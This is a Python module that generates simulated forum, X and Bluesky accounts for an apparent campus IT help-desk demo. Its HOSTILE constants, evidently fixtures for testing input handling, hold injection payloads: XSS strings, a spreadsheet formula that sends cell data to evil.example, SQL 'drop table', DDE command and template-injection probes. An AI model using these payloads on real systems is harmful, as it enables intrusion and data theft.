"""The people of the simulated community: a source and a day go in, who writes comes out."""

from __future__ import annotations

import tomllib
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from pathlib import Path
from random import Random

from demo.shifts import minutes
from demo.stories import Plot

FORUM, X, BLUESKY = "forum", "x", "bluesky"
SOURCES = (FORUM, X, BLUESKY)

_NAMES = tomllib.loads((Path(__file__).parent / "phrases" / "names.toml").read_text("utf-8"))
_PLACES = ("Berlin", "Potsdam", "Berlin, Germany", "Wedding", "dorm 4", "somewhere in Hall C")
_DESK = ("Meike Sander", "Tom Albers", "Aisha Rahmani", "Jörg Petzold", "Lucía Vega", "Pawel Nowak")
_NIGHT = ("Mirko Thiel", "Sunniva Berg", "Dao Linh", "Emil Krause")
HOSTILE = {
    FORUM: '"><img src=x onerror=alert(1)>',
    X: '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    BLUESKY: "<script>alert('hi')</script>",
}
HOSTILE_TEXT = (
    "<script>alert('forum')</script> Why does the page show my name so oddly? "
    "\"><img src=x onerror=alert(2)> {{7*7}} '; drop table messages; -- "
    "\u202egnirts desrever\u202c "
    "=cmd|'/c calc'!A1 @SUM(1+1) \u0007 " + "A" * 300
)


@dataclass(slots=True, eq=False)
class Person:
    """An account on one source; ``gone_at`` is when it was deleted or suspended."""

    serial: int
    source: str
    handle: str
    name: str
    joined_at: datetime
    role: str = "member"
    lang: str = "en"
    location: str = ""
    is_night: bool = False
    gone_at: datetime | None = None
    last_at: datetime | None = None


@dataclass(slots=True)
class Crowd:
    """Everybody of one source; ``urn`` holds an author once per topic they opened."""

    source: str
    rng: Random
    german: float
    people: list[Person] = field(default_factory=list)
    urn: list[Person] = field(default_factory=list)
    handles: set[str] = field(default_factory=set)
    desk: list[Person] = field(default_factory=list)
    night: list[Person] = field(default_factory=list)
    bot: Person | None = None

    def join(self, at: datetime, name: str = "", handle: str = "", role: str = "member") -> Person:
        """A new account."""
        rng = self.rng
        name = name or f"{rng.choice(_NAMES['first'])} {rng.choice(_NAMES['last'])}"
        person = Person(
            serial=len(self.people) + 1,
            source=self.source,
            handle=self._free(handle or _handle(rng, name)),
            name=name,
            joined_at=at,
            role=role,
            lang="de" if role == "member" and rng.random() < self.german else "en",
            location=rng.choice(_PLACES) if rng.random() < 0.3 else "",
        )
        self.people.append(person)
        return person

    def author(self, at: datetime, fresh: float) -> Person:
        """Who opens a topic: somebody new with chance ``fresh``, else the more, the more often."""
        rng = self.rng
        if not self.urn or rng.random() < fresh:
            person = self.join(at - minutes(rng, 90, 1.5))
        else:
            person = self._of_then(at) or self.join(at - minutes(rng, 90, 1.5))
        if person.gone_at and person.gone_at <= at + timedelta(days=30):
            return self.author(at, 1.0)
        self.urn.append(person)
        return person

    def _of_then(self, at: datetime) -> Person | None:
        """Somebody who had joined by then."""
        found = (self.rng.choice(self.urn) for _ in range(20))
        return next((person for person in found if person.joined_at < at), None)

    def peer(self, asker: Person, lang: str, at: datetime) -> Person:
        """Another member who speaks the language and had joined by then."""
        for _ in range(40):
            person = self._of_then(at)
            is_other = person is not None and person is not asker and not person.gone_at
            if person and is_other and person.lang == lang:
                return person
        return next(p for p in self.urn if p is not asker and p.joined_at < at)

    def staff(self, is_open: bool, is_trained: bool) -> Person:
        """Who is on duty."""
        crew = self.night if self.night and is_trained and not is_open else self.desk
        return crew[min(int(self.rng.expovariate(0.6)), len(crew) - 1)]

    def _free(self, handle: str) -> str:
        found, n = handle, 1
        while found.lower() in self.handles:
            n += 1
            found = f"{handle[:12]}{n}"
        self.handles.add(found.lower())
        return found


def _handle(rng: Random, name: str) -> str:
    first, last = name.lower().split(" ", 1)
    style = rng.randrange(4)
    if style == 0:
        return f"{first}_{last[:4]}"
    if style == 1:
        return f"{first}{rng.randrange(80, 100)}"
    return f"{first[:1]}{last}" if style == 2 else f"{first}{last[:1]}"


def crowd(source: str, rng: Random, plot: Plot, begins: datetime) -> Crowd:
    """The crowd of a source on the first day: staff, a bot, and members of earlier years."""
    found = Crowd(source, rng, {FORUM: 0.07, X: 0.2, BLUESKY: 0.15}[source])
    old = begins - timedelta(days=900)
    if source == FORUM:
        found.desk = [_staff(found, old, name) for name in _DESK]
        found.night = [_staff(found, begins + (plot.training - plot.begins), n) for n in _NIGHT]
    else:
        handle = "NorduferIT" if source == X else "it-help"
        found.desk = [found.join(old, "Nordufer IT Help Desk", handle, "staff")]
    bot = {FORUM: "status-bot", X: "NorduferStatus", BLUESKY: "status-bot"}[source]
    found.bot = found.join(old, "Campus Status Bot", bot, "bot")
    for _ in range({FORUM: 420, X: 160, BLUESKY: 90}[source]):
        found.urn.append(found.join(begins - timedelta(days=rng.uniform(5, 800))))
    hostile = found.join(begins - timedelta(days=60), HOSTILE[source], "odd_name")
    hostile.lang = "en"
    found.urn.extend([hostile] * 3)
    for i in range(2):
        gone = found.join(begins - timedelta(days=200 + i), handle=("lea_hartmann", "tim_ohm")[i])
        gone.lang = "en"
        # One leaves within the history, one a few days after its end.
        gone.gone_at = begins + (plot.ends - plot.begins) + timedelta(days=(-70, 5)[i])
        found.urn.extend([gone] * 12)
    return found


def _staff(found: Crowd, at: datetime, name: str) -> Person:
    handle = name.split()[0].lower().replace("ö", "oe").replace("í", "i")
    person = found.join(at, name, handle, "staff")
    person.is_night = name in _NIGHT
    return person
